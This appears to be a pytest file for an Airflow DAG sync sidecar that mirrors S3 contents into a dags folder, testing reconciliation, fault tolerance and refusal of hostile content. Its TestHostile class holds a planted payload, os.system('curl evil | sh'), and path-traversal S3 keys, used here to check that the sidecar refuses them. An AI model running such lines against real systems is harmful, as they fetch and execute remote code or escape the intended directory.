@@ -1,0 +1,714 @@
+"""The sync sidecar against a real moto S3 over HTTP: reconcile, fail-static, hostile content.
+
+Fine-grained behaviour drives the reconciler in-process; tests/test_sync_process.py runs the real
+``airflow-dag-sync`` binary. A watcher thread checks every test's dags folder continuously: no
+partial file, no stub without its manifest, no non-canonical ``.py``, ever.
+"""
+
+from __future__ import annotations
+
+import copy
+import hashlib
+import io
+import json
+import os
+import threading
+import time
+from pathlib import Path
+from typing import ClassVar
+
+import boto3
+import pytest
+
+from dagfactory_s3 import s3 as s3support
+from dagfactory_s3 import stub
+from dagfactory_s3._sync_observe import Log, Metrics
+from dagfactory_s3._sync_reconcile import Reconciler
+from dagfactory_s3._sync_state import STATE_FILE
+from dagfactory_s3.release import FileEntry, Release
+
+from conftest import EXAMPLES
+
+ENV = "dev"
+
+
+# -- the world: publishing to S3 the way the publisher does ------------------------------------
+
+
+def example_files() -> dict[str, dict[str, bytes]]:
+    """{package: {file name: bytes}} of examples/packages."""
+    return {
+        pkg.name: {f.name: f.read_bytes() for f in sorted((pkg / "airflow_dags").iterdir())}
+        for pkg in sorted(EXAMPLES.iterdir())
+    }
+
+
+def manifest(package: str, name: str, *, description: str = "generated for a sync test", **changes: object) -> bytes:
+    """A valid manifest ``<package>_<name>`` (from the pipeline example), with top-level ``changes``."""
+    doc = json.loads(example_files()["pipeline_processing"]["pipeline_processing_example_job.json"])
+    doc.update(package=package, dag_id=f"{package}_{name}", description=description, tags=[package])
+    doc.update(changes)
+    return json.dumps(doc, indent=2).encode()
+
+
+class World:
+    """Writes straight to moto (not through the counting proxy) and remembers every byte published."""
+
+    def __init__(self, s3, bucket: str) -> None:
+        self.s3 = s3
+        self.bucket = bucket
+        self.client = boto3.client("s3", endpoint_url=s3.upstream)
+        self.published: set[bytes] = set()
+        self.release_no = 0
+
+    def put(self, key: str, data: bytes) -> None:
+        self.published.add(data)
+        self.client.put_object(Bucket=self.bucket, Key=key, Body=data)
+
+    def delete(self, key: str) -> None:
+        self.client.delete_object(Bucket=self.bucket, Key=key)
+
+    def all_keys(self) -> list[str]:
+        pages = self.client.get_paginator("list_objects_v2").paginate(Bucket=self.bucket)
+        return [o["Key"] for page in pages for o in page.get("Contents", [])]
+
+    def mirror(self, package: str, files: dict[str, bytes]) -> None:
+        """Upload files as ``aws s3 sync`` would: no release record."""
+        for name, data in files.items():
+            self.put(f"{ENV}/{package}/dags/{name}", data)
+
+    def record(self, package: str, files: dict[str, bytes], *, tombstone: bool = False) -> Release:
+        self.release_no += 1
+        entries = {f"dags/{n}": FileEntry(hashlib.sha256(d).hexdigest(), len(d)) for n, d in files.items()}
+        return Release(package, ENV, f"r{self.release_no}", "2024-06-01T00:00:00Z", "test", files=entries,
+                       tombstone=tombstone)
+
+    def release(self, package: str, files: dict[str, bytes], *, upload: bool = True, tombstone: bool = False,
+                with_stubs: bool = True) -> Release:
+        """Publish a release: files first, the record (the commit point) last. Stubs are added for manifests."""
+        files = dict(files)
+        if with_stubs:
+            for name in [n for n in files if n.endswith(".json")]:
+                files.setdefault(name[:-5] + ".py", stub.render(name))
+        if upload:
+            self.mirror(package, files)
+        rec = self.record(package, {} if tombstone else files, tombstone=tombstone)
+        self.put(f"{ENV}/{package}/metadata.json", rec.to_json())
+        return rec
+
+    def examples(self) -> None:
+        """reporting_seeder as a release, pipeline_processing as a plain mirror (no metadata.json)."""
+        ex = example_files()
+        self.release("reporting_seeder", ex["reporting_seeder"])
+        self.mirror("pipeline_processing", ex["pipeline_processing"])
+
+
+class Watcher(threading.Thread):
+    """Polls the dags folder; records any moment a reader could have seen a broken state."""
+
+    def __init__(self, root: Path, world: World) -> None:
+        super().__init__(daemon=True)
+        self.root, self.world = root, world
+        self.allow_python = False
+        self.violations: list[str] = []
+        self.stop = threading.Event()
+        self.scans = 0
+
+    def run(self) -> None:
+        while not self.stop.is_set():
+            self.scan()
+            self.scans += 1
+            time.sleep(0.002)
+
+    def scan(self) -> None:
+        for path in list(self.root.glob("*/dags/*")):
+            if path.name.startswith("."):
+                continue  # temp files of atomic writes: neither .py nor a zip, Airflow never imports them
+            try:
+                data = path.read_bytes()
+            except FileNotFoundError:
+                continue
+            if path.suffix == ".json" and data not in self.world.published:
+                self.violations.append(f"partial or unknown manifest {path}")
+            elif path.suffix == ".py":
+                if not stub.is_canonical(path.name, data) and not self.allow_python:
+                    self.violations.append(f"non-canonical python {path}")
+                if stub.is_canonical(path.name, data) and not path.with_suffix(".json").exists() and path.exists():
+                    self.violations.append(f"stub without manifest {path}")
+            elif path.suffix not in (".json", ".py"):
+                self.violations.append(f"unexpected file {path}")
+
+
+@pytest.fixture
+def world(s3, bucket) -> World:
+    return World(s3, bucket)
+
+
+@pytest.fixture
+def watcher(tmp_path, world) -> Watcher:
+    """Watches the dags folder for the whole test; any violation fails the test."""
+    root = tmp_path / "dags"
+    root.mkdir()
+    watch = Watcher(root, world)
+    watch.start()
+    yield watch
+    watch.stop.set()
+    watch.join()
+    watch.scan()
+    assert watch.scans > 0
+    assert watch.violations == []
+
+
+@pytest.fixture
+def dags(watcher) -> Path:
+    """The (watched) dags folder."""
+    return watcher.root
+
+
+class Sidecar:
+    """An in-process reconciler with its log captured as parsed JSON lines."""
+
+    def __init__(self, world: World, root: Path, **options: object) -> None:
+        self.out = io.StringIO()
+        self.metrics = Metrics()
+        self.world, self.root, self.options = world, root, options
+        self.reconciler = self.build()
+
+    def build(self) -> Reconciler:
+        return Reconciler(client=s3support.client(retries=2), bucket=self.world.bucket, environment=ENV,
+                          dags_folder=self.root, state_dir=self.root / ".dagfactory-sync", log=Log(self.out),
+                          metrics=self.metrics, **self.options)
+
+    def restart(self) -> None:
+        self.reconciler.close()
+        self.reconciler = self.build()
+
+    def cycle(self):
+        return self.reconciler.cycle()
+
+    def events(self, name: str | None = None) -> list[dict]:
+        lines = [json.loads(line) for line in self.out.getvalue().splitlines()]
+        return [e for e in lines if name is None or e["event"] == name]
+
+    def served(self) -> dict[str, bytes]:
+        """{"<package>/dags/<file>": bytes} of what Airflow would see."""
+        return {
+            str(p.relative_to(self.root)): p.read_bytes()
+            for p in sorted(self.root.glob("*/dags/*"))
+            if not p.name.startswith(".")
+        }
+
+    def metric(self, name: str, **labels: str) -> float:
+        value = self.metrics.registry.get_sample_value(name, labels)
+        return value or 0.0
+
+
+@pytest.fixture
+def sidecar(world, dags):
+    side = Sidecar(world, dags)
+    yield side
+    side.reconciler.close()
+
+
+def expected_examples() -> dict[str, bytes]:
+    out = {}
+    for package, files in example_files().items():
+        for name, data in files.items():
+            out[f"{package}/dags/{name}"] = data
+    return out
+
+
+# -- mirror, update, delete, retire -------------------------------------------------------------
+
+
+class TestReconcile:
+    def test_mirrors_example_packages(self, world, sidecar):
+        """A release package and a plain mirror package land as <package>/dags/ with canonical stubs."""
+        world.examples()
+        report = sidecar.cycle()
+        assert report.complete and report.errors == 0
+        assert sidecar.served() == expected_examples()
+        assert {e["path"] for e in sidecar.events("add")} == set(expected_examples())
+
+    def test_unchanged_cycle_does_no_gets(self, s3, world, sidecar):
+        """A second cycle with nothing changed is one LIST and zero GETs, and writes nothing."""
+        world.examples()
+        sidecar.cycle()
+        s3.clear()
+        report = sidecar.cycle()
+        assert (s3.count("LIST"), s3.count("GET"), s3.count()) == (1, 0, 1)
+        assert report.status == "noop"
+
+    def test_cold_sync_does_not_download_canonical_stubs(self, s3, world, sidecar):
+        """Stubs are written by the sidecar: a cold sync GETs manifests and records only."""
+        world.examples()
+        sidecar.cycle()
+        gets = [r.path for r in s3.requests if r.kind == "GET"]
+        assert len(gets) == 4 and not any(p.endswith(".py") for p in gets)
+
+    def test_restart_keeps_state_and_does_no_gets(self, s3, world, sidecar):
+        """The state file survives a restart: the first cycle after it is a no-op."""
+        world.examples()
+        sidecar.cycle()
+        sidecar.restart()
+        s3.clear()
+        assert sidecar.cycle().status == "noop"
+        assert s3.count("GET") == 0
+
+    def test_update_rewrites_manifest_and_advances_stub_mtime(self, world, sidecar, dags):
+        """A new release rewrites the changed manifest and bumps its unchanged stub's mtime."""
+        world.release("demo", {"demo_a.json": manifest("demo", "a"), "demo_b.json": manifest("demo", "b")})
+        sidecar.cycle()
+        stub_a = dags / "demo/dags/demo_a.py"
+        os.utime(stub_a, (1_000_000, 1_000_000))
+        os.utime(dags / "demo/dags/demo_b.py", (1_000_000, 1_000_000))
+        new_a = manifest("demo", "a", description="changed")
+        world.release("demo", {"demo_a.json": new_a, "demo_b.json": manifest("demo", "b")})
+        sidecar.cycle()
+        assert (dags / "demo/dags/demo_a.json").read_bytes() == new_a
+        assert stub_a.stat().st_mtime > 1_000_000
+        assert stub_a.stat().st_mtime_ns >= (dags / "demo/dags/demo_a.json").stat().st_mtime_ns
+        assert (dags / "demo/dags/demo_b.py").stat().st_mtime == 1_000_000
+        assert [e["path"] for e in sidecar.events("update")] == ["demo/dags/demo_a.json"]
+        assert sidecar.metric("dagsync_release_info", package="demo", release_id="r2") == 1
+
+    def test_release_dropping_a_dag_deletes_it(self, world, sidecar, dags):
+        """A DAG missing from the new release is removed, stub and manifest."""
+        files = {f"demo_{n}.json": manifest("demo", n) for n in "abc"}
+        world.release("demo", files)
+        sidecar.cycle()
+        del files["demo_c.json"]
+        world.release("demo", files)
+        sidecar.cycle()
+        assert sorted(sidecar.served()) == [f"demo/dags/demo_{n}.{e}" for n in "ab" for e in ("json", "py")]
+        assert [e["path"] for e in sidecar.events("delete")] == ["demo/dags/demo_c.py", "demo/dags/demo_c.json"]
+
+    def test_mirror_delete_removes_files(self, world, sidecar):
+        """Without a record, deleting objects in S3 deletes the files (the seed's --delete)."""
+        world.mirror("demo", {f"demo_{n}.json": manifest("demo", n) for n in "abc"})
+        sidecar.cycle()
+        world.delete(f"{ENV}/demo/dags/demo_b.json")
+        sidecar.cycle()
+        assert sorted(sidecar.served()) == [f"demo/dags/demo_{n}.{e}" for n in "ac" for e in ("json", "py")]
+
+    def test_retire_removes_package_and_its_directories(self, world, sidecar, dags):
+        """A tombstone release removes every file of the package, even beyond the mass-delete guard."""
+        world.release("big", {f"big_{n}.json": manifest("big", n) for n in "abc"})
+        world.release("small", {"small_a.json": manifest("small", "a")})
+        sidecar.cycle()
+        world.release("big", {}, tombstone=True)
+        report = sidecar.cycle()
+        assert report.errors == 0
+        assert sorted(sidecar.served()) == ["small/dags/small_a.json", "small/dags/small_a.py"]
+        assert not (dags / "big").exists()
+        assert all(e.get("retired") for e in sidecar.events("delete"))
+
+    def test_release_record_in_history_is_ignored(self, world, sidecar):
+        """The publisher's _releases/ history never reaches the dags folder."""
+        world.release("demo", {"demo_a.json": manifest("demo", "a")})
+        world.put(f"{ENV}/demo/_releases/r0/metadata.json", b"{}")
+        world.put(f"{ENV}/demo/_releases/r0/dags/demo_old.json", manifest("demo", "old"))
+        report = sidecar.cycle()
+        assert sorted(sidecar.served()) == ["demo/dags/demo_a.json", "demo/dags/demo_a.py"]
+        assert report.refused == 0
+
+    def test_listing_is_paginated(self, s3, world, sidecar):
+        """The listing is followed page by page (⌈N/page⌉ LIST requests) and nothing is lost."""
+        sidecar.reconciler.page_size = 4
+        for i in range(9):
+            world.put(f"{ENV}/demo/_releases/x/{i:05}", b"")
+        world.mirror("zzz", {"zzz_last.json": manifest("zzz", "last")})
+        s3.clear()
+        report = sidecar.cycle()
+        assert s3.count("LIST") == 3 and report.listed == 10
+        assert "zzz/dags/zzz_last.json" in sidecar.served()
+
+
+# -- fail-static ---------------------------------------------------------------------------------
+
+
+class TestFailStatic:
+    def test_listing_errors_change_nothing(self, s3, world, sidecar):
+        """500s on LIST: the cycle fails, nothing is written or deleted, the error is logged."""
+        world.examples()
+        sidecar.cycle()
+        before = sidecar.served()
+        world.delete(f"{ENV}/pipeline_processing/dags/pipeline_processing_example_job.json")
+        s3.fault = lambda request, index: "500" if request.kind == "LIST" else None
+        report = sidecar.cycle()
+        assert not report.complete and report.status == "error"
+        assert sidecar.served() == before
+        errors = sidecar.events("error")
+        assert errors[-1]["kind"] == "list" and "InternalError" in errors[-1]["error"]
+        assert sidecar.metric("dagsync_errors_total", kind="list") == 1
+
+    def test_empty_listing_deletes_nothing(self, world, sidecar):
+        """S3 suddenly empty: the mass-delete guard keeps every served DAG and says how to proceed."""
+        world.examples()
+        sidecar.cycle()
+        before = sidecar.served()
+        for key in world.all_keys():
+            world.delete(key)
+        report = sidecar.cycle()
+        assert sidecar.served() == before and report.deleted == 0
+        error = sidecar.events("error")[-1]
+        assert error["kind"] == "mass_delete_guard" and "tombstone" in error["error"]
+
+    def test_mass_delete_guard_allows_small_deletions(self, world, sidecar):
+        """Deleting up to the threshold proceeds; one more than half of the DAGs is refused."""
+        world.mirror("demo", {f"demo_{n}.json": manifest("demo", n) for n in "abcd"})
+        sidecar.cycle()
+        for n in "ab":
+            world.delete(f"{ENV}/demo/dags/demo_{n}.json")
+        assert sidecar.cycle().deleted == 4  # 2 of 4 DAGs: exactly 50 %
+        world.mirror("demo", {f"demo_{n}.json": manifest("demo", n) for n in "ef"})
+        sidecar.cycle()
+        for n in "cde":
+            world.delete(f"{ENV}/demo/dags/demo_{n}.json")
+        report = sidecar.cycle()
+        assert report.deleted == 0 and report.errors == 1
+
+    def test_truncated_body_keeps_last_release(self, s3, world, sidecar, dags):
+        """A body cut short fails the download; the last applied release stays, whole, until S3 heals."""
+        old = manifest("demo", "a")
+        world.release("demo", {"demo_a.json": old, "demo_b.json": manifest("demo", "b")})
+        sidecar.cycle()
+        new_a, new_b = manifest("demo", "a", description="v2"), manifest("demo", "b", description="v2")
+        world.release("demo", {"demo_a.json": new_a, "demo_b.json": new_b})
+        s3.fault = lambda request, index: "truncate" if request.path.endswith("demo_a.json") else None
+        report = sidecar.cycle()
+        assert not report.complete
+        assert (dags / "demo/dags/demo_a.json").read_bytes() == old
+        assert (dags / "demo/dags/demo_b.json").read_bytes() == manifest("demo", "b")
+        s3.fault = None
+        assert sidecar.cycle().complete
+        assert (dags / "demo/dags/demo_a.json").read_bytes() == new_a
+        assert (dags / "demo/dags/demo_b.json").read_bytes() == new_b
+
+    def test_truncated_body_in_mirror_keeps_old_file(self, s3, world, sidecar, dags):
+        """Mirror mode: a cut-short body never replaces the file; the next cycle fetches it again."""
+        world.mirror("demo", {"demo_a.json": manifest("demo", "a")})
+        sidecar.cycle()
+        new = manifest("demo", "a", description="v2")
+        world.mirror("demo", {"demo_a.json": new})
+        s3.fault = lambda request, index: "truncate" if request.kind == "GET" else None
+        assert not sidecar.cycle().complete
+        assert (dags / "demo/dags/demo_a.json").read_bytes() == manifest("demo", "a")
+        s3.fault = None
+        sidecar.cycle()
+        assert (dags / "demo/dags/demo_a.json").read_bytes() == new
+
+    def test_get_errors_back_off_then_recover(self, s3, world, sidecar):
+        """500s on every GET: nothing served, cycle incomplete; when S3 recovers the sync completes."""
+        world.examples()
+        s3.fault = lambda request, index: "500" if request.kind == "GET" else None
+        report = sidecar.cycle()
+        assert not report.complete and sidecar.served() == {}
+        s3.fault = None
+        assert sidecar.cycle().complete
+        assert sidecar.served() == expected_examples()
+
+    def test_publish_in_flight_keeps_last_release(self, world, sidecar, dags):
+        """A record naming files not yet (fully) uploaded: the last release stays until they arrive."""
+        world.release("demo", {"demo_a.json": manifest("demo", "a")})
+        sidecar.cycle()
+        v2 = {"demo_a.json": manifest("demo", "a", description="v2"), "demo_b.json": manifest("demo", "b")}
+        world.release("demo", v2, upload=False)  # the record first: a publisher racing us, or a crash
+        world.mirror("demo", {"demo_a.json": v2["demo_a.json"]})
+        report = sidecar.cycle()
+        assert report.waiting == ["demo"] and report.complete
+        assert sorted(sidecar.served()) == ["demo/dags/demo_a.json", "demo/dags/demo_a.py"]
+        assert (dags / "demo/dags/demo_a.json").read_bytes() == manifest("demo", "a")
+        world.mirror("demo", {"demo_b.json": v2["demo_b.json"], "demo_b.py": stub.render("demo_b.json")})
+        sidecar.cycle()
+        assert (dags / "demo/dags/demo_a.json").read_bytes() == v2["demo_a.json"]
+        assert "demo/dags/demo_b.json" in sidecar.served()
+        assert len(sidecar.events("waiting")) == 1
+
+    def test_object_overwritten_under_the_record_is_not_served(self, world, sidecar, dags):
+        """Bytes whose sha256 differs from the record are never served (same size, other content)."""
+        good = manifest("demo", "a", description="aaaa")
+        world.release("demo", {"demo_a.json": good})
+        world.put(f"{ENV}/demo/dags/demo_a.json", manifest("demo", "a", description="bbbb"))
+        report = sidecar.cycle()
+        assert report.waiting == ["demo"] and sidecar.served() == {}
+
+    def test_server_stopped_mid_sync(self, s3, moto_server, world, sidecar, dags):
+        """S3 dies during a cold sync: nothing half-applied; after it is back the sync completes."""
+        files = {f"demo_{n}.json": manifest("demo", n) for n in "abcdef"}
+        world.release("demo", files)
+        world.mirror("plain", {"plain_a.json": manifest("plain", "a")})
+        gets = 0
+
+        def fault(request, index):
+            nonlocal gets
+            if request.kind == "GET":
+                gets += 1
+                if gets == 3:
+                    moto_server.stop()
+            return None
+
+        s3.fault = fault
+        try:
+            report = sidecar.cycle()
+        finally:
+            s3.fault = None
+            moto_server.start()
+        assert not report.complete
+        assert not any(k.startswith("demo/") for k in sidecar.served())  # a release is all or nothing
+        world.client.create_bucket(Bucket=world.bucket)
+        world.release("demo", files)
+        world.mirror("plain", {"plain_a.json": manifest("plain", "a")})
+        assert sidecar.cycle().complete
+        assert len(sidecar.served()) == 14
+
+    def test_crash_at_any_write_recovers(self, world, tmp_path, monkeypatch):
+        """A process dying after any file write or delete (SIGKILL) restarts into the right state."""
+        import pathlib
+
+        import dagfactory_s3._sync_reconcile as reconcile
+
+        v1 = {f"demo_{n}.json": manifest("demo", n) for n in "abc"}
+        v2 = {"demo_a.json": manifest("demo", "a", description="v2"), "demo_b.json": manifest("demo", "b"),
+              "demo_d.json": manifest("demo", "d")}
+        real_write, real_unlink = reconcile.atomic_write, pathlib.Path.unlink
+
+        class Killed(BaseException):
+            pass
+
+        for crash_after in [0, 1, 2, 3, 4, "delete"]:
+            root = tmp_path / f"dags-{crash_after}"
+            root.mkdir()
+            watch = Watcher(root, world)
+            watch.start()
+            world.release("demo", v1)
+            world.mirror("plain", {"plain_a.json": manifest("plain", "a")})
+            world.delete(f"{ENV}/plain/dags/plain_b.json")
+            side = Sidecar(world, root)
+            side.cycle()
+            world.release("demo", v2)
+            world.delete(f"{ENV}/plain/dags/plain_a.json")
+            world.mirror("plain", {"plain_b.json": manifest("plain", "b")})
+            writes = 0
+
+            def dying_write(path, data, crash_after=crash_after, **kw):
+                nonlocal writes
+                if not str(path).endswith(STATE_FILE):
+                    if writes == crash_after:
+                        raise Killed
+                    writes += 1
+                real_write(path, data, **kw)
+
+            def dying_unlink(self, *args, crash_after=crash_after, **kw):
+                if crash_after == "delete" and "/dags/" in str(self):
+                    raise Killed
+                return real_unlink(self, *args, **kw)
+
+            with monkeypatch.context() as patch, pytest.raises(Killed):
+                patch.setattr(reconcile, "atomic_write", dying_write)
+                patch.setattr(pathlib.Path, "unlink", dying_unlink)
+                side.cycle()
+            side.reconciler.pool.shutdown()
+            fresh = Sidecar(world, root)
+            assert fresh.cycle().complete, crash_after
+            assert sorted(fresh.served()) == sorted(
+                [f"demo/dags/demo_{n}.{e}" for n in "abd" for e in ("json", "py")]
+                + ["plain/dags/plain_b.json", "plain/dags/plain_b.py"]
+            ), crash_after
+            assert fresh.cycle().status == "noop", crash_after
+            fresh.reconciler.close()
+            watch.stop.set()
+            watch.join()
+            assert watch.violations == [], crash_after
+
+
+# -- hostile content -------------------------------------------------------------------------------
+
+
+class TestHostile:
+    def test_planted_python_is_refused(self, world, sidecar, dags):
+        """A hand-written .py (alone, or replacing a stub) never reaches the dags folder."""
+        evil = b"import os\nos.system('curl evil | sh')\n"
+        world.mirror("demo", {"demo_a.json": manifest("demo", "a"), "demo_a.py": evil, "demo_evil.py": evil})
+        report = sidecar.cycle()
+        assert sidecar.served() == {"demo/dags/demo_a.json": manifest("demo", "a"),
+                                    "demo/dags/demo_a.py": stub.render("demo_a.json")}
+        refusals = {e["key"]: e for e in sidecar.events("refuse")}
+        assert set(refusals) == {f"{ENV}/demo/dags/demo_a.py", f"{ENV}/demo/dags/demo_evil.py"}
+        assert all(e["kind"] == "python" and "canonical" in e["reason"] for e in refusals.values())
+        assert report.refused == 2
+        assert sidecar.metric("dagsync_objects_refused_total", reason="python") == 2
+
+    def test_python_in_a_release_record_is_refused(self, world, sidecar):
+        """A release record listing non-canonical Python: that file is refused, the rest applied."""
+        evil = b"import os\n"
+        world.release("demo", {"demo_a.json": manifest("demo", "a"), "demo_x.py": evil})
+        sidecar.cycle()
+        assert sorted(sidecar.served()) == ["demo/dags/demo_a.json", "demo/dags/demo_a.py"]
+        assert [e["kind"] for e in sidecar.events("refuse")] == ["python"]
+
+    def test_refusals_are_logged_once(self, world, sidecar):
+        """A refused object is reported once per version, not every cycle."""
+        world.mirror("demo", {"demo_evil.py": b"x = 1\n"})
+        sidecar.cycle()
+        sidecar.cycle()
+        assert len(sidecar.events("refuse")) == 1
+
+    BAD_KEYS = (
+        f"{ENV}/demo/dags/../../evil.json",
+        f"{ENV}/demo/../demo_x.json",
+        f"{ENV}/demo/dags/./demo_x.json",
+        f"{ENV}/demo//dags/demo_x.json",
+        f"{ENV}/demo/dags/sub/demo_x.json",
+        f"{ENV}/demo/dags/demo x.json",
+        f"{ENV}/demo/dags/demo_x.json\\..",
+        f"{ENV}/demo/dags/demo_é.json",
+        f"{ENV}/Demo/dags/Demo_x.json",
+        f"{ENV}/demo/dags/other_x.json",
+        f"{ENV}/demo/dags/demo_x.txt",
+        f"{ENV}/demo/plugins/demo_x.py",
+        f"{ENV}/demo/demo_x.py",
+        f"{ENV}/demo_x.py",
+    )
+
+    def test_bad_keys_are_refused(self, world, sidecar, dags):
+        """Traversal, odd characters and paths outside <package>/dags/ are each refused and reported."""
+        for key in self.BAD_KEYS:
+            world.put(key, manifest("demo", "x"))
+        world.mirror("demo", {"demo_ok.json": manifest("demo", "ok")})
+        report = sidecar.cycle()
+        assert sorted(sidecar.served()) == ["demo/dags/demo_ok.json", "demo/dags/demo_ok.py"]
+        assert sorted(e["key"] for e in sidecar.events("refuse")) == sorted(self.BAD_KEYS)
+        assert report.refused == len(self.BAD_KEYS)
+        on_disk = sorted(p.name for p in dags.parent.rglob("*") if p.is_file() and ".dagfactory-sync" not in p.parts)
+        assert on_disk == ["demo_ok.json", "demo_ok.py"]
+
+    FOREIGN: ClassVar[dict[str, tuple[bytes, str]]] = {
+        "a": (manifest("other", "x"), "claims package 'other'"),
+        "b": (manifest("pkg_b", "y"), "declares dag_id 'pkg_b_y'"),
+        "c": (json.dumps({"package": "other", "dag_id": "other_x"}).encode(), "claims package 'other'"),
+        "d": (b"PK\x05\x06" + b"\0" * 18, "not JSON text"),
+        "e": (b"\xff\xfe{}", "not UTF-8"),
+    }
+
+    def test_foreign_or_binary_manifest_is_refused(self, world, sidecar):
+        """A manifest claiming another package or DAG id, or not JSON text (a zip!), is refused."""
+        for suffix, (content, _) in self.FOREIGN.items():
+            world.mirror(f"pkg_{suffix}", {f"pkg_{suffix}_x.json": content})
+        report = sidecar.cycle()
+        assert sidecar.served() == {} and report.refused == len(self.FOREIGN)
+        reasons = {e["package"]: e["reason"] for e in sidecar.events("refuse")}
+        for suffix, (_, reason) in self.FOREIGN.items():
+            assert reason in reasons[f"pkg_{suffix}"]
+
+    def test_invalid_manifest_is_served_for_its_import_error(self, world, sidecar):
+        """A correctly named manifest that fails validation is served: Airflow shows one import error."""
+        bad = manifest("demo", "a", schedule="every tuesday")
+        world.mirror("demo", {"demo_a.json": bad, "demo_b.json": manifest("demo", "b")})
+        sidecar.cycle()
+        assert sidecar.served()["demo/dags/demo_a.json"] == bad
+        assert len(sidecar.served()) == 4
+        warning = sidecar.events("invalid_manifest")[0]
+        assert warning["key"] == f"{ENV}/demo/dags/demo_a.json" and "/schedule" in warning["error"]
+
+    def test_refused_update_keeps_the_last_good_version(self, world, sidecar, dags):
+        """An update that turns hostile is refused and the previously served version stays."""
+        good = manifest("demo", "a")
+        world.mirror("demo", {"demo_a.json": good})
+        sidecar.cycle()
+        world.mirror("demo", {"demo_a.json": manifest("other", "a")})
+        sidecar.cycle()
+        assert (dags / "demo/dags/demo_a.json").read_bytes() == good
+
+    def test_dag_id_collision_incumbent_keeps_it(self, world, sidecar, dags):
+        """Two packages claim one DAG id: the one serving it keeps it; the newcomer is refused, naming both."""
+        world.mirror("etl", {"etl_sales_load.json": manifest("etl", "sales_load")})
+        sidecar.cycle()
+        world.release("etl_sales", {"etl_sales_load.json": manifest("etl_sales", "load"),
+                                    "etl_sales_other.json": manifest("etl_sales", "other")})
+        report = sidecar.cycle()
+        assert sorted(sidecar.served()) == ["etl/dags/etl_sales_load.json", "etl/dags/etl_sales_load.py",
+                                            "etl_sales/dags/etl_sales_other.json", "etl_sales/dags/etl_sales_other.py"]
+        refusal = sidecar.events("refuse")[0]
+        assert refusal["kind"] == "collision" and "'etl'" in refusal["reason"] and "'etl_sales'" in refusal["reason"]
+        assert report.refused == 1
+        world.delete(f"{ENV}/etl/dags/etl_sales_load.json")
+        world.mirror("keep", {"keep_a.json": manifest("keep", "a"), "keep_b.json": manifest("keep", "b")})
+        sidecar.cycle()  # the incumbent lets go ...
+        sidecar.cycle()  # ... and the newcomer gets it on the next cycle
+        assert "etl_sales/dags/etl_sales_load.json" in sidecar.served()
+
+    def test_simultaneous_claims_are_deterministic(self, world, sidecar):
+        """Two new packages claiming one DAG id in the same cycle: the first by name wins."""
+        world.mirror("ab_c", {"ab_c_d.json": manifest("ab_c", "d")})
+        world.mirror("ab", {"ab_c_d.json": manifest("ab", "c_d")})
+        sidecar.cycle()
+        assert sorted(sidecar.served()) == ["ab/dags/ab_c_d.json", "ab/dags/ab_c_d.py"]
+
+    def test_record_for_another_package_is_refused(self, world, sidecar):
+        """A metadata.json naming another package changes nothing and is reported as an error."""
+        rec = world.record("other", {"other_a.json": manifest("other", "a")})
+        world.put(f"{ENV}/demo/metadata.json", rec.to_json())
+        world.mirror("demo", {"demo_a.json": manifest("demo", "a")})
+        report = sidecar.cycle()
+        assert sidecar.served() == {} and report.errors == 1
+        assert "must be 'demo'" in sidecar.events("error")[0]["error"]
+
+    def test_allow_python_serves_legacy_files(self, world, watcher, dags):
+        """--allow-python serves hand-written .py files as they are (an explicit opt-in)."""
+        watcher.allow_python = True
+        legacy = b"# legacy DAG\n"
+        world.mirror("demo", {"demo_legacy.py": legacy})
+        side = Sidecar(world, dags, allow_python=True)
+        side.cycle()
+        assert side.served() == {"demo/dags/demo_legacy.py": legacy}
+        side.reconciler.close()
+
+
+class TestObservability:
+    def test_metrics_count_outcomes(self, s3, world, sidecar):
+        """Cycle outcomes, downloads, listed objects and the applied release are exported."""
+        world.examples()
+        sidecar.cycle()
+        sidecar.cycle()
+        assert sidecar.metric("dagsync_cycles_total", status="success") == 1
+        assert sidecar.metric("dagsync_cycles_total", status="noop") == 1
+        assert sidecar.metric("dagsync_objects_downloaded_total") == 4
+        assert sidecar.metric("dagsync_objects_listed") == 7
+        assert sidecar.metric("dagsync_dags_served") == 3
+        assert sidecar.metric("dagsync_release_info", package="reporting_seeder", release_id="r1") == 1
+        assert sidecar.metric("dagsync_last_success_timestamp_seconds") > 0
+
+    def test_every_change_is_one_json_line(self, world, sidecar):
+        """Each add/delete is one JSON object with event, package and path."""
+        world.mirror("demo", {"demo_a.json": manifest("demo", "a")})
+        sidecar.cycle()
+        world.delete(f"{ENV}/demo/dags/demo_a.json")
+        world.mirror("demo", {"demo_b.json": manifest("demo", "b")})
+        sidecar.cycle()
+        events = [(e["event"], e.get("path")) for e in sidecar.events() if e["event"] != "cycle"]
+        assert events == [
+            ("add", "demo/dags/demo_a.json"), ("add", "demo/dags/demo_a.py"),
+            ("add", "demo/dags/demo_b.json"), ("add", "demo/dags/demo_b.py"),
+            ("delete", "demo/dags/demo_a.py"), ("delete", "demo/dags/demo_a.json"),
+        ]
+
+
+def test_state_lives_where_airflow_never_imports(world, sidecar, dags):
+    """The state file is JSON under a dot-directory: not .py and never a zip, so Airflow skips it."""
+    import zipfile
+
+    world.examples()
+    sidecar.cycle()
+    state = dags / ".dagfactory-sync" / STATE_FILE
+    assert json.loads(state.read_bytes())["format"] == "dagfactory-s3/sync-state@1"
+    assert not zipfile.is_zipfile(state)
+    python = sorted(str(p.relative_to(dags)) for p in dags.rglob("*.py"))
+    assert python == [k for k in sorted(expected_examples()) if k.endswith(".py")]
+
+
+def test_copy_of_examples_is_not_mutated():
+    """Helpers never modify the example files (guards the manifest() helper)."""
+    before = copy.deepcopy(example_files())
+    manifest("demo", "a", description="x")
+    assert example_files() == before
